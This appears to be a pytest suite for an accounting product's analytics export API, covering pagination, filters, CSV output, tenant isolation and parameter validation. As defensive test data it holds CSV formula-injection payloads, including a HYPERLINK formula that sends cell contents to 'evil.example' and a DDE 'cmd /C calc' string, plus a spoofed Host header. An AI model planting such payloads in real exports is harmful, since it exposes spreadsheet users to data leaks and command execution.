"""The analytics pull API: pages, filters, CSV, team and service scopes, and bad parameters."""

import csv
import io
from datetime import datetime, timezone
from decimal import Decimal

import pytest
from sqlalchemy import event, func, select, update

from floqast.accounts.models import Role
from floqast.analytics import csv_copy
from floqast.analytics.generate import Profile, generate
from floqast.analytics.models import ChecklistItem, Entity, Reconciliation
from floqast.analytics.records import DATASETS, flatten
from floqast.api import export
from floqast.extensions import db
from floqast.keys.models import ANALYTICS_SERVICES, Service
from helpers import CHECKLISTS, PATHS, RECONCILIATIONS

BOOKS = Profile(entities=(("North", "USD"), ("South", "EUR")), accounts=12, months=3, through=(2025, 3), seed=11,
                people=("Ann", "Ben", "Cy"))


@pytest.fixture
def acme_key(key_to_books):
    return key_to_books(BOOKS)


@pytest.fixture
def globex_key(make_team, make_user, make_key):
    globex = make_team("Globex")
    generate(globex, Profile(**{**BOOKS.__dict__, "entities": (("Globex UK", "GBP"),), "seed": 12}))
    return make_key(make_user(globex, Role.ADMIN))[1]


def pull(client, path, key, accept="application/json", **params):
    return client.get(path, query_string=params, headers={"x-api-key": key, "Accept": accept})


def walk(client, path, key, **params) -> list[dict]:
    """Every record, following links.next from the first page."""
    records, response = [], pull(client, path, key, **params)
    while True:
        assert response.status_code == 200, response.get_json()
        body = response.get_json()
        records += body["data"]
        if body["links"]["next"] is None:
            return records
        response = client.get(body["links"]["next"], headers={"x-api-key": key})


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def count(model, *conditions) -> int:
    return db.session.scalar(select(func.count()).select_from(model).where(*conditions))


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
@pytest.mark.parametrize("size", [1, 7, 72, 1000])
def test_walking_the_pages_returns_every_record_once(client, acme_key, service, size):
    records = walk(client, PATHS[service], acme_key, **{"page[size]": size})
    ids = [record["id"] for record in records]
    assert len(ids) == len(set(ids)) == count(DATASETS[service].model)
    assert ids == sorted(ids, key=int)


def test_the_last_page_has_a_null_next_and_an_exact_fit_ends_cleanly(client, acme_key):
    total = count(Reconciliation)
    body = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": total}).get_json()
    assert len(body["data"]) == total and body["links"]["next"] is None
    assert body["links"]["self"] == f"/api/v1/analytics/reconciliations?page%5Bsize%5D={total}"


def test_links_are_paths_of_this_site_whatever_the_host_header_says(client, acme_key):
    query = "filter[month]=March&filter[year]=2025&page[size]=5"
    response = client.get(f"{RECONCILIATIONS}?{query}", headers={"x-api-key": acme_key, "Host": "evil.example"})
    links = response.get_json()["links"]
    assert links["self"] == f"{RECONCILIATIONS}?{query}"
    next_prefix = f"{RECONCILIATIONS}?filter[month]=March&filter[year]=2025&page[size]=5&page[cursor]="
    assert links["next"].startswith(next_prefix)
    assert "evil.example" not in response.get_data(as_text=True)
    assert client.get(RECONCILIATIONS, headers={"x-api-key": acme_key}).get_json()["links"]["self"] == RECONCILIATIONS


def test_rows_added_while_walking_are_never_duplicated_or_skipping_others(client, acme_key, team):
    first = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": 10}).get_json()
    before = {record["id"] for record in first["data"]}
    template = db.session.get(Reconciliation, int(first["data"][0]["id"]))
    db.session.add(Reconciliation(**{
        column.key: getattr(template, column.key) for column in Reconciliation.__table__.columns
        if column.key not in ("id", "account_number")
    }, account_number="9999"))
    db.session.commit()
    response = client.get(first["links"]["next"], headers={"x-api-key": acme_key})
    rest = walk(client, RECONCILIATIONS, acme_key, **{"page[size]": 10, "page[cursor]": cursor_of(first)})
    ids = [record["id"] for record in first["data"] + rest]
    assert response.status_code == 200
    assert len(ids) == len(set(ids)) == count(Reconciliation)
    assert before.isdisjoint(record["id"] for record in rest)


def cursor_of(page: dict) -> str:
    from urllib.parse import parse_qs, urlsplit

    return parse_qs(urlsplit(page["links"]["next"]).query)["page[cursor]"][0]


@pytest.mark.parametrize("month", ["February", "february", "2", "02"])
def test_month_and_year_filter(client, acme_key, month):
    records = walk(client, RECONCILIATIONS, acme_key, **{"filter[month]": month, "filter[year]": "2025"})
    assert {(r["period"]["year"], r["period"]["month"]) for r in records} == {(2025, 2)}
    assert len(records) == count(Reconciliation, Reconciliation.period_month == 2)


def test_modified_filters(client, acme_key):
    moment = datetime(2025, 1, 15, 12, tzinfo=timezone.utc)
    db.session.execute(update(ChecklistItem).values(updated_at=datetime(2024, 12, 1, tzinfo=timezone.utc)))
    db.session.execute(update(ChecklistItem).where(ChecklistItem.id <= 5).values(updated_at=moment))
    db.session.commit()
    since = walk(client, CHECKLISTS, acme_key, **{"filter[modifiedSince]": "2025-01-15"})
    assert sorted(r["id"] for r in since) == ["1", "2", "3", "4", "5"]
    assert walk(client, CHECKLISTS, acme_key, **{"filter[modifiedSince]": "2025-01-16"}) == []
    before = walk(client, CHECKLISTS, acme_key, **{"filter[modifiedBefore]": "2025-01-15"})
    assert len(before) == count(ChecklistItem) - 5
    between = walk(client, CHECKLISTS, acme_key, **{"filter[modifiedSince]": "2025-01-15",
                                                    "filter[modifiedBefore]": "2025-01-16"})
    assert [r["updatedAt"] for r in between] == ["2025-01-15T12:00:00Z"] * 5


def test_entity_filter_alone_and_combined(client, acme_key, team):
    south = db.session.scalar(select(Entity.id).where(Entity.name == "South"))
    records = walk(client, RECONCILIATIONS, acme_key, **{"filter[entityIds]": str(south)})
    assert {r["entity"]["name"] for r in records} == {"South"}
    assert len(records) == count(Reconciliation, Reconciliation.entity_id == south)
    combined = walk(client, RECONCILIATIONS, acme_key, **{
        "filter[entityIds]": f"{south},999", "filter[month]": "March", "filter[year]": "2025",
        "filter[modifiedSince]": "2000-01-01", "page[size]": 5,
    })
    assert {(r["entity"]["name"], r["period"]["month"]) for r in combined} == {("South", 3)}
    assert len(combined) == count(Reconciliation, Reconciliation.entity_id == south, Reconciliation.period_month == 3)


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_csv_carries_the_same_records_as_json(client, acme_key, service):
    params = {"filter[month]": "3", "filter[year]": "2025"}
    response = pull(client, PATHS[service], acme_key, accept="text/csv", **params)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{service.value}-2025-03.csv"'
    rows = csv_rows(response)
    assert list(rows[0]) == DATASETS[service].columns
    records = walk(client, PATHS[service], acme_key, **params, **{"page[size]": 10})
    assert rows == [flatten(record) for record in records]


def test_every_time_is_whole_seconds_in_utc_in_json_and_csv(client, acme_key):
    reconciliation_id = db.session.scalar(select(func.min(Reconciliation.id)))
    moment = datetime(2025, 3, 31, 18, 15, 6, 123456, tzinfo=timezone.utc)
    db.session.execute(update(Reconciliation).where(Reconciliation.id == reconciliation_id).values(
        preparer_signed_at=moment, updated_at=moment))
    db.session.commit()
    [record] = [record for record in walk(client, RECONCILIATIONS, acme_key) if record["id"] == str(reconciliation_id)]
    [row] = [row for row in csv_rows(pull(client, RECONCILIATIONS, acme_key, accept="text/csv"))
             if row["id"] == str(reconciliation_id)]
    preparer = next(signature for signature in record["signatures"] if signature["group"] == "preparer")
    assert record["updatedAt"] == preparer["signedDate"] == "2025-03-31T18:15:06Z"
    assert row["updatedAt"] == row["signatures.preparer.signedDate"] == "2025-03-31T18:15:06Z"


def test_json_numbers_match_the_database_exactly(client, acme_key):
    records = walk(client, RECONCILIATIONS, acme_key)
    for record in records:
        row = db.session.get(Reconciliation, int(record["id"]))
        assert Decimal(record["glBalance"]) == row.gl_balance
        assert record["glBalance"] == f"{row.gl_balance:.2f}"
        difference = row.gl_balance - row.reconciled_balance - row.reconciling_items
        assert record["difference"] == f"{difference:.2f}"
        signed = row.preparer_signed_at is not None and row.reviewer_signed_at is not None
        assert record["reconciled"] is (difference == 0 and signed)
    assert {r["reconciled"] for r in records} == {True, False}


def test_derived_fields_agree_with_their_definition(client, acme_key):
    for record in walk(client, CHECKLISTS, acme_key):
        preparer, reviewer = (bool(s["signedDate"]) for s in record["signatures"])
        assert record["complete"] is (preparer and reviewer)
        assert record["readyForReview"] is (preparer and not reviewer)
        overdue = any(not s["signedDate"] and s["dueDate"] < datetime.now(timezone.utc).date().isoformat()
                      for s in record["signatures"])
        assert record["pastDue"] is overdue


def test_money_is_a_two_decimal_string_never_a_float(client, acme_key):
    text = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": 3}).get_data(as_text=True)
    record = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": 1}).get_json()["data"][0]
    for name in ("glBalance", "reconciledBalance", "reconcilingItems", "difference"):
        assert isinstance(record[name], str) and record[name].split(".")[1].isdigit()
        assert len(record[name].split(".")[1]) == 2
    assert '"glBalance":"' in text.replace(" ", "")


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_a_team_never_sees_another_teams_records(client, acme_key, globex_key, service):
    acme = walk(client, PATHS[service], acme_key)
    globex = walk(client, PATHS[service], globex_key)
    assert {r["entity"]["name"] for r in acme} == {"North", "South"}
    assert {r["entity"]["name"] for r in globex} == {"Globex UK"}
    globex_entity = globex[0]["entity"]["id"]
    assert walk(client, PATHS[service], acme_key, **{"filter[entityIds]": str(globex_entity)}) == []
    csv_names = {row["entity.name"] for row in csv_rows(pull(client, PATHS[service], acme_key, accept="text/csv"))}
    assert csv_names == {"North", "South"}


def test_a_cursor_from_another_team_shows_nothing_of_theirs(client, acme_key, globex_key):
    globex_page = pull(client, RECONCILIATIONS, globex_key, **{"page[size]": 2}).get_json()
    records = walk(client, RECONCILIATIONS, acme_key, **{"page[size]": 500, "page[cursor]": cursor_of(globex_page)})
    assert {r["entity"]["name"] for r in records} <= {"North", "South"}


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_a_key_without_the_service_is_refused(client, team, admin, make_key, service):
    other = next(s for s in Service if s is not service)
    plaintext = make_key(admin, services=[other])[1]
    for accept in ("application/json", "text/csv"):
        response = pull(client, PATHS[service], plaintext, accept=accept)
        assert response.status_code == 403
        assert service.label in response.get_json()["errors"][0]["detail"]
    assert pull(client, PATHS[other], plaintext).status_code == 200


BAD_PARAMETERS = [
    ({"filter[status]": "open"}, "filter[status]", "Allowed: filter[month]"),
    ({"filter[month]": "Febuary", "filter[year]": "2025"}, "filter[month]", "January to December"),
    ({"filter[month]": "13", "filter[year]": "2025"}, "filter[month]", "1 to 12"),
    ({"filter[year]": "2025"}, "filter[month]", "give both"),
    ({"filter[month]": "May"}, "filter[year]", "give both"),
    ({"filter[month]": "May", "filter[year]": "25"}, "filter[year]", "four digits"),
    ({"page[size]": "0"}, "page[size]", "1 to 30000"),
    ({"page[size]": "30001"}, "page[size]", "1 to 30000"),
    ({"page[size]": "ten"}, "page[size]", "1 to 30000"),
    ({"page[cursor]": "eyJhZnRlciI6MX0"}, "page[cursor]", "links.next"),
    ({"filter[modifiedSince]": "2025-02-30"}, "filter[modifiedSince]", "YYYY-MM-DD"),
    ({"filter[modifiedBefore]": "01/02/2025"}, "filter[modifiedBefore]", "YYYY-MM-DD"),
    ({"filter[modifiedSince]": "2025-02-01", "filter[modifiedBefore]": "2025-01-01"}, "filter[modifiedBefore]",
     "later"),
    ({"filter[entityIds]": "1,two"}, "filter[entityIds]", "comma-separated"),
    ({"filter[entityIds]": ""}, "filter[entityIds]", "comma-separated"),
]


@pytest.mark.parametrize("accept", ["application/json", "text/csv"])
@pytest.mark.parametrize(("params", "name", "allowed"), BAD_PARAMETERS)
def test_a_bad_parameter_is_a_400_naming_it(client, acme_key, params, name, allowed, accept):
    response = pull(client, RECONCILIATIONS, acme_key, accept=accept, **params)
    assert response.status_code == 400 and response.mimetype == "application/json"
    detail = response.get_json()["errors"][0]["detail"]
    assert detail.startswith(f"{name}:") and allowed in detail


def test_a_tampered_cursor_is_refused(client, acme_key):
    page = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": 2}).get_json()
    token = cursor_of(page)
    payload, signature = token.rsplit(".", 1)
    forged = payload[:-2] + ("A" if payload[-2] != "A" else "B") + payload[-1] + "." + signature
    response = pull(client, RECONCILIATIONS, acme_key, **{"page[cursor]": forged})
    assert response.status_code == 400 and "page[cursor]" in response.get_json()["errors"][0]["detail"]


def test_a_cursor_only_continues_its_own_query(client, acme_key):
    page = pull(client, RECONCILIATIONS, acme_key, **{"page[size]": 2}).get_json()
    with_other_filters = pull(client, RECONCILIATIONS, acme_key, **{
        "page[cursor]": cursor_of(page), "filter[month]": "1", "filter[year]": "2025"})
    on_other_service = pull(client, CHECKLISTS, acme_key, **{"page[cursor]": cursor_of(page)})
    for response in (with_other_filters, on_other_service):
        assert response.status_code == 400
        assert "different query" in response.get_json()["errors"][0]["detail"]


def test_csv_without_a_period_names_all_periods_and_has_every_row(client, acme_key):
    response = pull(client, CHECKLISTS, acme_key, accept="text/csv")
    assert 'filename="checklists-all-periods.csv"' in response.headers["Content-Disposition"]
    assert len(csv_rows(response)) == count(ChecklistItem)


def test_an_empty_result_is_a_page_without_next_and_a_csv_with_only_the_header(client, acme_key):
    params = {"filter[month]": "1", "filter[year]": "1999"}
    assert pull(client, RECONCILIATIONS, acme_key, **params).get_json()["data"] == []
    text = pull(client, RECONCILIATIONS, acme_key, accept="text/csv", **params).get_data(as_text=True)
    assert text.strip() == ",".join(DATASETS[Service.RECONCILIATIONS].columns)


HOSTILE = {
    "description": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "tags": ["+cmd|' /C calc'!A0", "ok"],
    "preparer_signed_by": "@SUM(1+1)",
    "reviewer_assigned_to": "\t=1+1",
    "account_name": "-2+3",
    "account_number": "\r=1",
    "auto_rec_type": "'=quoted already",
}


@pytest.fixture
def hostile_ids(acme_key):
    """One checklist item and one reconciliation whose text a spreadsheet would run as formulas."""
    checklist_id = db.session.scalar(select(func.min(ChecklistItem.id)))
    reconciliation_id = db.session.scalar(select(func.min(Reconciliation.id)))
    db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_id).values(
        description=HOSTILE["description"], tags=HOSTILE["tags"], preparer_signed_by=HOSTILE["preparer_signed_by"]))
    db.session.execute(update(Reconciliation).where(Reconciliation.id == reconciliation_id).values(
        account_name=HOSTILE["account_name"], account_number=HOSTILE["account_number"],
        auto_rec_type=HOSTILE["auto_rec_type"], reviewer_assigned_to=HOSTILE["reviewer_assigned_to"],
        gl_balance=Decimal("-1234.50"), reconciled_balance=Decimal(0), reconciling_items=Decimal(0)))
    db.session.execute(update(Entity).where(Entity.name == "North").values(name="@North"))
    db.session.commit()
    return {Service.CHECKLISTS: checklist_id, Service.RECONCILIATIONS: reconciliation_id}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(client, acme_key, hostile_ids):
    checklists = {row["id"]: row for row in csv_rows(pull(client, CHECKLISTS, acme_key, accept="text/csv"))}
    item = checklists[str(hostile_ids[Service.CHECKLISTS])]
    assert item["description"] == "'" + HOSTILE["description"]
    assert item["tags"] == "'+cmd|' /C calc'!A0;ok"
    assert item["signatures.preparer.signedBy"] == "'@SUM(1+1)"
    reconciliations = {row["id"]: row for row in csv_rows(pull(client, RECONCILIATIONS, acme_key, accept="text/csv"))}
    account = reconciliations[str(hostile_ids[Service.RECONCILIATIONS])]
    assert account["accountName"] == "'-2+3"
    assert account["accountNumber"] == "'\r'=1"  # after the CR, a ; spreadsheet's next row
    assert account["signatures.reviewer.assignedTo"] == "'\t=1+1"
    assert account["autoRecType"] == "''=quoted already"  # one quote more, which an import takes off again
    assert {row["entity.name"] for row in reconciliations.values()} == {"'@North", "South"}
    # Amounts, numbers and dates stay what they are: a negative amount is still a number to the spreadsheet.
    assert account["glBalance"] == account["difference"] == "-1234.50"
    assert account["period.month"].isdigit() and account["entity.id"].isdigit()


SPLIT_OFF = {  # text whose formula comes after a ; or a line break, where a ; spreadsheet starts a new cell
    "description": 'Review;=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "tags": ["ok", "=1+1", "@SUM(1+1)", '"=2+2', "-3"],
    "preparer_signed_by": "Ann\n+4",
    "account_name": "Cash;-2+3",
    "account_number": "1000;\"=1",
    "auto_rec_type": "auto\r\n@x",
    "reviewer_assigned_to": "Close, then;",
}


def test_csv_read_with_semicolons_as_separator_has_no_cell_starting_a_formula(client, acme_key):
    checklist_id = db.session.scalar(select(func.min(ChecklistItem.id)))
    db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_id).values(
        description=SPLIT_OFF["description"], tags=SPLIT_OFF["tags"],
        preparer_signed_by=SPLIT_OFF["preparer_signed_by"]))
    db.session.execute(update(Reconciliation).where(Reconciliation.id == db.session.scalar(
        select(func.min(Reconciliation.id)))).values(
        account_name=SPLIT_OFF["account_name"], account_number=SPLIT_OFF["account_number"],
        auto_rec_type=SPLIT_OFF["auto_rec_type"], reviewer_assigned_to=SPLIT_OFF["reviewer_assigned_to"]))
    db.session.commit()

    cells = []
    for path in (CHECKLISTS, RECONCILIATIONS):
        text = pull(client, path, acme_key, accept="text/csv").get_data(as_text=True)
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]

    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] == []
    # Each part was split off and neutralised, not lost (a " as the comma-separated file doubles it).
    for start in ("'=HYPERLINK(", "'=1+1", "'@SUM(1+1)", "'\"\"=2+2", "'-3", "'+4", "'-2+3", "'\"\"=1", "'@x"):
        assert any(cell.startswith(start) for cell in cells), start


def test_json_keeps_text_as_it_was(client, acme_key, hostile_ids):
    [item] = pull(client, CHECKLISTS, acme_key, **{"page[size]": 1}).get_json()["data"]
    assert item["description"] == HOSTILE["description"] and item["tags"] == HOSTILE["tags"]
    assert item["entity"]["name"] == "@North"


def test_a_client_that_hangs_up_mid_csv_gives_back_the_database_connection(client, acme_key, monkeypatch):
    monkeypatch.setattr(export, "ROWS_PER_FETCH", 1)
    monkeypatch.setattr(csv_copy, "RECORDS_PER_CHUNK", 1)
    checked_out = set()

    def checkout(dbapi_connection, record, proxy):
        checked_out.add(record)

    def checkin(dbapi_connection, record):
        checked_out.discard(record)

    # Pool events: the Python path reads through an engine connection, COPY (PostgreSQL) through a raw one.
    event.listen(db.engine, "checkout", checkout)
    event.listen(db.engine, "checkin", checkin)
    try:
        response = client.get(RECONCILIATIONS, headers={"x-api-key": acme_key, "Accept": "text/csv"}, buffered=False)
        assert response.status_code == 200
        chunks = iter(response.response)
        next(chunks), next(chunks)  # the header and the first rows, then the client goes away
        assert checked_out  # the records' own connection, still streaming
        response.close()
        assert not checked_out
    finally:
        event.remove(db.engine, "checkout", checkout)
        event.remove(db.engine, "checkin", checkin)
